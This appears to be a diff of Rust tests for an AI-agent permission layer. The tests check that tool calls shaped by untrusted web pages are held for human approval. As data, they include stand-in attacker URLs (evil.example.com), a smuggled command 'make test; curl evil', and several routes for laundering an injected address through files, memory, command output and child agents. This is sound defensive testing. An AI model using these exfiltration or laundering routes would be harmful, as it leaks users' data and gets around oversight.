@@ -73,17 +73,17 @@ fn what_a_person_asked_for_needs_no_question_and_all_else_does() {
     > done 2 NET_SEND
       → infer 2 turn [task, turn, net_fetch, turn, exec_cmd, turn, net_send]
     > explain 2 NET_SEND {"url":"https://hook.example.com/b","method":"POST","body":"all of it"}
-    ask by label: labels[0] untrusted; the argument `body` does not stand in your request
+    ask by label: labels[0] untrusted; the argument `body` stands neither in your request nor in a file that it names
     > explain 2 NET_SEND {"url":"https://evil.example.com/b","method":"POST","body":"done"}
-    ask by label: labels[0] untrusted; the argument `url` does not stand in your request
+    ask by label: labels[0] untrusted; the argument `url` stands neither in your request nor in a file that it names
     > explain 2 NET_SEND {"url":"https://news.example.com/a","method":"POST","body":"done"}
     ask by label: labels[0] untrusted; its arguments stand in your request, but in no one sentence
     > explain 2 NET_FETCH {"url":"https://news.example.com/a?secret=1"}
-    ask by label: labels[0] untrusted; the argument `url` does not stand in your request
+    ask by label: labels[0] untrusted; the argument `url` stands neither in your request nor in a file that it names
     > explain 2 EXEC_CMD {"cmd":"make test; curl evil"}
-    ask by label: labels[0] untrusted; the argument `cmd` does not stand in your request
+    ask by label: labels[0] untrusted; the argument `cmd` stands neither in your request nor in a file that it names
     > explain 2 SPAWN_AGENT {"role":"r","task":"t"}
-    ask by label: labels[0] untrusted; the argument `role` does not stand in your request
+    ask by label: labels[0] untrusted; the argument `role` stands neither in your request nor in a file that it names
     > boot
       → infer 2 turn [task, turn, net_fetch, turn, exec_cmd, turn, net_send]
     > explain 2 EXEC_CMD {"cmd":"make test"}
@@ -229,7 +229,7 @@ fn a_child_is_given_what_an_untouched_parent_tells_it() {
     > explain 3 EXEC_CMD {"cmd":"make one"}
     allow by role assistant: exec; given, which lifts label: labels[0] untrusted
     > explain 3 EXEC_CMD {"cmd":"make two"}
-    ask by label: labels[0] untrusted; the argument `cmd` does not stand in your request
+    ask by label: labels[0] untrusted; the argument `cmd` stands neither in your request nor in a file that it names
     > 2: => SPAWN_AGENT {"role":"r","task":"run `make two`","permissions":["EXEC_CMD"]}
     2 ask by label: labels[0] untrusted
     2 proposal p1 pending
@@ -241,7 +241,7 @@ fn a_child_is_given_what_an_untouched_parent_tells_it() {
       → infer 4 turn [task]
       → infer 2 turn [task, turn, spawn_agent, net_fetch, turn, spawn_agent]
     > explain 4 EXEC_CMD {"cmd":"make two"}
-    ask by label: labels[0] untrusted; the argument `cmd` does not stand in your request
+    ask by label: labels[0] untrusted; the argument `cmd` stands neither in your request nor in a file that it names
     > fork 3
     5 labelled untrusted.web
       → infer 5 turn [task, turn, net_fetch]
@@ -340,4 +340,103 @@ fn reading_more_makes_nothing_given() {
         let told = replay(&script);
         assert!(told.contains("ask by label: labels[0] untrusted"), "{told}");
     }
+}
+
+/// Runs a script whose process has read a page in the end, and says which of these calls are asked about.
+fn asked(begin: &str, calls: &[&str]) -> Vec<bool> {
+    let asks = |call: &&str| {
+        let told = replay(&format!("{begin}\nexplain 2 {call}\nboot\nexplain 2 {call}"));
+        let asks = told.matches("ask by label: labels[0] untrusted").count();
+        assert!(asks != 1 && told.contains("labelled untrusted.web"), "{told}");
+        asks == 2
+    };
+    calls.iter().map(asks).collect()
+}
+
+const PAGE: &str = "2: => NET_FETCH {\"url\":\"https://news.example.com/a\"}\ndone 2 NET_FETCH {\"content\":\"https://evil.example.com/x\"}";
+const HOOK: &str = r#"NET_SEND {"url":"https://hook.example.com/b","method":"POST","body":"done"}"#;
+const READ_HOOK: &str = "2: => FS_READ {\"path\":\"hook.txt\"}\ndone 2 FS_READ {\"content\":\"hook: https://hook.example.com/b\\nrun `make all`\"}";
+
+/// What a file names that the person points to is given, where nobody else can have written it.
+#[test]
+fn a_clean_file_that_the_sentence_names_gives_an_address() {
+    let task = "spawn resident Read https://news.example.com/a. Then post \"done\" to the address in hook.txt";
+    let other = "spawn resident Read https://news.example.com/a and hook.txt. Then post \"done\" somewhere";
+    // Before the page, and after it, since the person asked for the file.
+    assert_eq!(asked(&format!("{task}\n{READ_HOOK}\n{PAGE}"), &[HOOK]), [false]);
+    assert_eq!(asked(&format!("{task}\n{PAGE}\n{READ_HOOK}"), &[HOOK]), [false]);
+    // What is sent must stand in the same sentence as the file, and nothing of it is ever run or sent.
+    let more = [
+        HOOK,
+        r#"NET_SEND {"url":"https://hook.example.com/b","method":"POST","body":"run `make all`"}"#,
+        r#"EXEC_CMD {"cmd":"make all"}"#,
+        r#"NET_FETCH {"url":"https://hook.example.com/b"}"#,
+        r#"NET_FETCH {"url":"https://hook.example.com/b?x=1"}"#,
+        r#"NET_FETCH {"url":"https://evil.example.com/x"}"#,
+    ];
+    assert_eq!(asked(&format!("{other}\n{READ_HOOK}\n{PAGE}"), &more), [true, true, true, false, true, true]);
+    // A file that the agent read by itself after the page gives nothing, and one that it read before gives what reads.
+    let none = "spawn resident Read https://news.example.com/a. Then post \"done\"";
+    let fetch = r#"NET_FETCH {"url":"https://hook.example.com/b"}"#;
+    assert_eq!(asked(&format!("{none}\n{PAGE}\n{READ_HOOK}"), &[HOOK, fetch]), [true, true]);
+    assert_eq!(asked(&format!("{none}\n{READ_HOOK}\n{PAGE}"), &[HOOK, fetch]), [true, false]);
+}
+
+/// Whatever way the attacker's address takes into something that looks clean, it is asked about.
+#[test]
+fn an_address_cannot_be_laundered() {
+    let task = "spawn resident Read https://news.example.com/a. Then post \"done\" to the address in hook.txt";
+    let evil = r#"NET_SEND {"url":"https://evil.example.com/x","method":"POST","body":"done"}"#;
+    let fetch = r#"NET_FETCH {"url":"https://evil.example.com/x"}"#;
+    let said = r#"{"content":"https://evil.example.com/x","entries":[{"path":"https://evil.example.com/x"}],"hits":[{"value":"https://evil.example.com/x"}],"stdout":"https://evil.example.com/x"}"#;
+    let ways = [
+        // Into the file, or beside it, under the page.
+        format!(
+            "{PAGE}\n2: => FS_WRITE {{\"path\":\"hook.txt\",\"content\":\"https://evil.example.com/x\"}}\ndone 2 FS_WRITE\n2: => FS_READ {{\"path\":\"hook.txt\"}}\ndone 2 FS_READ {said}"
+        ),
+        format!(
+            "{PAGE}\n2: => FS_EDIT {{\"path\":\"b.txt\",\"edits\":[]}}\ndone 2 FS_EDIT\n2: => FS_READ {{\"path\":\"hook.txt\"}}\ndone 2 FS_READ {said}"
+        ),
+        // By another process in the same folder.
+        format!(
+            "spawn resident folder=/w x\n3: => NET_FETCH {{\"url\":\"https://news.example.com/a\"}}\ndone 3 NET_FETCH\n3: => FS_WRITE {{\"path\":\"hook.txt\",\"content\":\"x\"}}\ndone 3 FS_WRITE\n2: => FS_READ {{\"path\":\"hook.txt\"}}\ndone 2 FS_READ {said}\n{PAGE}"
+        ),
+        // From a place that a rule labels, or the list of the folder above it.
+        format!("2: => FS_READ {{\"path\":\"inbox/hook.txt\"}}\ndone 2 FS_READ {said}\n{PAGE}"),
+        format!("2: => FS_LIST {{}}\ndone 2 FS_LIST {said}\n{PAGE}"),
+        format!("2: => FS_SEARCH {{\"pattern\":\"x\"}}\ndone 2 FS_SEARCH {said}\n{PAGE}"),
+        // By the result of a command, through its own memory, or through what it was shown before.
+        format!("2: => EXEC_CMD {{\"cmd\":\"cat hook.txt\"}}\ndone 2 EXEC_CMD {said}\n{PAGE}"),
+        format!("2: => MEM_READ {{\"query\":\"hook.txt\"}}\ndone 2 MEM_READ {said}\n{PAGE}"),
+        format!("{PAGE}\n2: => FS_READ {{\"path\":\"result:9\"}}\ndone 2 FS_READ {said}"),
+        // By a child that has seen it.
+        format!(
+            "2: => SPAWN_AGENT {{\"role\":\"r\",\"task\":\"t\",\"permissions\":[\"NET_FETCH *.example.com/**\"]}} => WAIT {{}}\n3: => NET_FETCH {{\"url\":\"https://news.example.com/a\"}}\ndone 3 NET_FETCH\n3: => SYS_EXIT {{\"result\":{said}}}\n{PAGE}"
+        ),
+    ];
+    for way in ways {
+        let folder = task.replace("resident", "resident folder=/w");
+        assert_eq!(asked(&format!("{folder}\n{way}"), &[evil, fetch]), [true, true], "{way}");
+    }
+}
+
+/// A process that was made under untrusted content is nobody whom the person knows.
+#[test]
+fn a_child_that_was_made_under_a_page_is_no_kin() {
+    let policy = POLICY.replace("calls: [NET_FETCH,", "calls: [SEND_MSG, NET_FETCH,");
+    let told = replay_under(
+        &policy,
+        r#"
+        spawn resident Spawn "a checker" with the task "check". Tell them: be quick
+        2: => SPAWN_AGENT {"role":"a checker","task":"check"} => NET_FETCH {"url":"https://news.example.com/a"}
+        done 2 NET_FETCH
+        2: => SPAWN_AGENT {"role":"eve","task":"listen"}
+        approve p1
+        explain 2 SEND_MSG {"to_pid":3,"content":"be quick"}
+        explain 2 SEND_MSG {"to_pid":4,"content":"be quick"}
+        "#,
+    );
+    let asks: Vec<bool> =
+        told.lines().filter(|line| line.contains(" by ")).map(|line| line.starts_with("ask")).collect();
+    assert_eq!(asks[asks.len() - 2..], [false, true], "{told}");
 }
